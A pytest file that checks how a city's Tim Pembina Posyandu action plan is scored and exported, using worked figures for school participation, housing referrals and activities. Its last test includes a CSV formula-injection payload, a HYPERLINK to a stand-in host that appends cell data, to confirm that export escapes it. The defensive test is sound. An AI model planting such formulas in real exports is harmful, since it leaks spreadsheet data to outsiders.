"""Commitments measured by the engines and judged: a worked example a Tim Pembina can check.

Kecamatan Bekasi Timur (32.75.01) has ten children aged 7–15: five at Posyandu Mawar
(kelurahan 32.75.01.1001), five at Posyandu Melati (32.75.01.1002). The plan runs from
1 January to 31 December 2026, margin 5 points, measured per quarter; it is judged on
1 July 2026, so the last complete quarter is 2026-Q2.

School participation (APS 7–15), children recorded as enrolled in the quarter:

    quarter  Mawar  Melati  kecamatan
    2025-Q4    3      3     6/10 = 60 %   (baseline: the quarter before the plan)
    2026-Q1    5      3     8/10 = 80 %
    2026-Q2    5      2     7/10 = 70 %   (latest)

Path from 60 % on 1 January to 95 % on 31 December, read on 30 June (day 180 of 364):
60 + 35 × 180/364 = 77.31 %. 70 % is 7.31 points short, more than the margin of 5:
**at risk**. Mawar alone (target 90 %) stands at 5/5 = 100 %: **met**.

RTLH referrals to the housing office (target 80 % resolved within 14 days):
2025-Q4 — 2 routed, 1 on time, 1 late: 50 % (baseline); 2026-Q1 — 5 routed, 3 on time,
1 late, 1 still open past its deadline: 3/5 = 60 %; 2026-Q2 — none routed (no value).
Latest 60 % (Q1); the path on 31 March (day 89) is 50 + 30 × 89/364 = 57.34 %: **on
track**.

Activities: kader training due 30 June, done 15 June — **met**; outreach due 20 July,
not done, 19 days left — **at risk**; technical guidance due 31 March, not done —
**missed**.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import date

import pytest
from pembina_helpers import PEMBINA, Route, add_children, add_status, build_city, kader

from spm_core.access import Actor, AgencyScope, Purpose, Role
from spm_core.api import Registry
from spm_core.domain import KodeWilayah
from spm_core.errors import InputError, NotFound
from spm_core.pembina import Status
from spm_core.referrals import lifecycle

AS_OF = date(2026, 7, 1)
PERKIM = "kota-bekasi.disperkimtan"
OFFICER = Actor("opd-perkim", Role.AGENCY_OFFICER, AgencyScope(PERKIM, KodeWilayah("32.75")))

PLAN = {
    "code": "tp-kota-bekasi-2026",
    "title": "Rencana aksi bersama Tim Pembina Posyandu 2026",
    "wilayah_code": "32.75",
    "start": "2026-01-01",
    "end": "2026-12-31",
    "agreed_by": ["Disdik", "Disperkimtan", "Dinkes", "Dinsos"],
    "agreed_on": "2026-01-20",
    "commitments": [
        {
            "code": "aps-bekasi-timur",
            "kind": "indicator",
            "agency_code": "kota-bekasi.disdik",
            "indicator": "pendidikan.aps-7-15",
            "area": "32.75.01",
            "target": 95,
            "measure_period": "quarter",
            "due_on": "2026-12-31",
        },
        {
            "code": "aps-mawar",
            "kind": "indicator",
            "agency_code": "kota-bekasi.disdik",
            "indicator": "pendidikan.aps-7-15",
            "area": "32.75.01.1001",
            "target": 90,
            "measure_period": "quarter",
            "due_on": "2026-12-31",
        },
        {
            "code": "rtlh-tepat-waktu",
            "kind": "referral",
            "agency_code": PERKIM,
            "need_type": "perkim.rtlh",
            "target": 80,
            "measure_period": "quarter",
            "due_on": "2026-12-31",
        },
        {
            "code": "pelatihan-kader",
            "kind": "activity",
            "agency_code": "kota-bekasi.dinkes",
            "field": "kesehatan",
            "title": "Pelatihan kader enam bidang",
            "due_on": "2026-06-30",
            "done_on": "2026-06-15",
        },
        {
            "code": "sosialisasi",
            "kind": "activity",
            "agency_code": "kota-bekasi.dinsos",
            "field": "sosial",
            "title": "Sosialisasi layanan sosial di posyandu",
            "due_on": "2026-07-20",
        },
        {
            "code": "bimtek",
            "kind": "activity",
            "agency_code": PERKIM,
            "field": "perkim",
            "title": "Bimbingan teknis pendataan RTLH",
            "due_on": "2026-03-31",
        },
    ],
}


@pytest.fixture
def registry(db_url: str) -> Iterator[Registry]:
    with Registry.open(db_url) as registry:
        yield registry


def _referrals(registry: Registry, posyandu: str, routed: date, closed: list[date | None]) -> None:
    store = registry.store
    for i, on in enumerate(closed):
        home = store.add_household(
            kader(posyandu), {"posyandu_id": posyandu, "rt": "1", "rw": "1"}, Purpose.PENDATAAN
        )
        referral = store.submit_referral(
            kader(posyandu),
            {
                "idempotency_key": f"rtlh-{routed.isoformat()}-{i}",
                "need_type": "perkim.rtlh",
                "household_id": home.id,
                "on": routed,
            },
            Purpose.RUJUKAN,
            registry.catalog,
            route=Route(PERKIM),
        ).referral
        if on is None:
            continue
        lifecycle.accept(store, OFFICER, referral.id, on=routed)
        lifecycle.start(store, OFFICER, referral.id, on=routed)
        lifecycle.resolve(store, OFFICER, referral.id, "rumah diperbaiki", on=on)


@pytest.fixture
def judged(registry: Registry) -> dict[str, object]:
    city = build_city(registry)
    mawar = add_children(city, "mawar", "mw", 5, date(2016, 3, 1))
    melati = add_children(city, "melati", "ml", 5, date(2016, 3, 1))
    add_status(city, "mawar", mawar[:3], date(2025, 12, 10))
    add_status(city, "melati", melati[:3], date(2025, 12, 10))
    add_status(city, "mawar", mawar, date(2026, 3, 10))
    add_status(city, "melati", melati[:3], date(2026, 3, 10))
    add_status(city, "mawar", mawar, date(2026, 6, 10))
    add_status(city, "melati", melati[:2], date(2026, 6, 10))
    p = city.posyandu["mawar"]
    _referrals(registry, p, date(2025, 12, 1), [date(2025, 12, 10), date(2025, 12, 20)])
    on_time, late = date(2026, 2, 10), date(2026, 2, 20)
    _referrals(registry, p, date(2026, 2, 2), [on_time, on_time, on_time, late, None])
    registry.save_action_plan(PEMBINA, PLAN, Purpose.ADMINISTRASI)
    status = registry.pembina_status(PEMBINA, as_of=AS_OF)
    return {"status": status, **{c.commitment.code: c for c in status.commitments}}


def test_an_indicator_commitment_short_of_its_path_is_at_risk(judged: dict[str, object]) -> None:
    aps = judged["aps-bekasi-timur"]
    assert [(p.period, p.numerator, p.denominator, p.value) for p in aps.trend] == [
        ("2026-Q1", 8.0, 10.0, 80.0),
        ("2026-Q2", 7.0, 10.0, 70.0),
    ]
    assert (aps.baseline.period, aps.baseline.value) == ("2025-Q4", 60.0)
    assert aps.latest.value == 70.0
    assert aps.judgement.expected == pytest.approx(60 + 35 * 180 / 364, abs=1e-4)
    assert aps.status is Status.AT_RISK
    assert "7.3 points short" in aps.judgement.reason.en
    assert aps.field.value == "pendidikan"
    assert aps.title.en == "School participation rate, ages 7–15"


def test_a_kelurahan_at_its_target_has_met_it(judged: dict[str, object]) -> None:
    mawar = judged["aps-mawar"]
    assert [p.value for p in mawar.trend] == [100.0, 100.0]
    assert mawar.baseline.value == 60.0
    assert mawar.status is Status.MET


def test_referrals_resolved_within_the_deadline_are_measured_per_quarter(
    judged: dict[str, object],
) -> None:
    rtlh = judged["rtlh-tepat-waktu"]
    assert (rtlh.baseline.numerator, rtlh.baseline.denominator, rtlh.baseline.value) == (
        1.0,
        2.0,
        50.0,
    )
    assert [(p.period, p.value) for p in rtlh.trend] == [("2026-Q1", 60.0), ("2026-Q2", None)]
    assert rtlh.latest.period == "2026-Q1"
    assert rtlh.judgement.expected == pytest.approx(50 + 30 * 89 / 364, abs=1e-4)
    assert rtlh.status is Status.ON_TRACK
    assert rtlh.field.value == "perkim"


def test_activities_are_met_at_risk_or_missed(judged: dict[str, object]) -> None:
    assert judged["pelatihan-kader"].status is Status.MET
    assert judged["sosialisasi"].status is Status.AT_RISK
    assert "19 days" in judged["sosialisasi"].judgement.reason.en
    assert judged["bimtek"].status is Status.MISSED


def test_scorecards_per_agency_and_per_kecamatan(judged: dict[str, object]) -> None:
    status = judged["status"]
    rows = {
        (r.group, r.field): (r.total, r.met, r.on_track, r.at_risk, r.missed, r.no_data)
        for r in status.by_agency
    }
    assert rows == {
        ("kota-bekasi.dinkes", "kesehatan"): (1, 1, 0, 0, 0, 0),
        ("kota-bekasi.dinsos", "sosial"): (1, 0, 0, 1, 0, 0),
        ("kota-bekasi.disdik", "pendidikan"): (2, 1, 0, 1, 0, 0),
        (PERKIM, "perkim"): (2, 0, 1, 0, 1, 0),
    }
    kecamatan = {(r.group, r.field): r.total for r in status.by_kecamatan}
    assert kecamatan == {
        ("32.75", "kesehatan"): 1,
        ("32.75", "perkim"): 2,
        ("32.75", "sosial"): 1,
        ("32.75.01", "pendidikan"): 2,
    }


def test_the_status_states_its_rule_and_exports(judged: dict[str, object]) -> None:
    status = judged["status"]
    data = json.loads(status.to_json("en"))
    assert "straight path from the baseline" in data["rule"]
    assert [c["status"] for c in data["commitments"]] == [
        "at_risk",
        "met",
        "on_track",
        "met",
        "at_risk",
        "missed",
    ]
    rows = list(csv.DictReader(io.StringIO(status.to_csv("id"))))
    assert rows[0]["status_label"] == "berisiko"
    assert rows[0]["latest"] == "70.0"


def test_one_agency_only(registry: Registry, judged: dict[str, object]) -> None:
    status = registry.pembina_status(PEMBINA, as_of=AS_OF, agency_code=PERKIM)
    assert [c.commitment.code for c in status.commitments] == ["rtlh-tepat-waktu", "bimtek"]


def test_a_plan_naming_an_unknown_indicator_is_refused_whole(registry: Registry) -> None:
    bad = {**PLAN, "commitments": [dict(PLAN["commitments"][0], indicator="pendidikan.aps-x")]}
    with pytest.raises(InputError) as raised:
        registry.save_action_plan(PEMBINA, bad, Purpose.ADMINISTRASI)
    (issue,) = raised.value.issues
    assert (issue.field, issue.value) == ("commitments.0.indicator", "pendidikan.aps-x")
    with pytest.raises(NotFound):  # nothing was stored
        registry.action_plan(PEMBINA, PLAN["code"])


def test_the_html_report_carries_a_tim_pembina_section(
    registry: Registry, judged: dict[str, object]
) -> None:
    from spm_core.reporting import html_report

    section = registry.pembina_section(PEMBINA, as_of=AS_OF)
    assert section.anchor == "tim-pembina"
    assert "berisiko" in section.body.id
    assert "at risk" in section.body.en
    page = html_report(
        registry.store,
        PEMBINA,
        registry.catalog,
        "2026-Q2",
        level="kecamatan",
        lang="en",
        extra_sections=[section],
    )
    assert 'id="tim-pembina"' in page
    assert "Pelatihan kader enam bidang" in page
    assert "School participation rate, ages 7–15" in page


def test_a_commitment_written_as_a_formula_is_text_in_the_csv(registry: Registry) -> None:
    build_city(registry)
    hostile = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")'
    activity = {**PLAN["commitments"][4], "title": hostile}
    plan = {**PLAN, "commitments": [activity]}
    registry.save_action_plan(PEMBINA, plan, Purpose.ADMINISTRASI)
    status = registry.pembina_status(PEMBINA, as_of=AS_OF)
    rows = list(csv.DictReader(io.StringIO(status.to_csv("id"))))
    assert rows[0]["title"] == "'" + hostile
    assert status.commitments[0].title.id == hostile  # stored and shown as typed
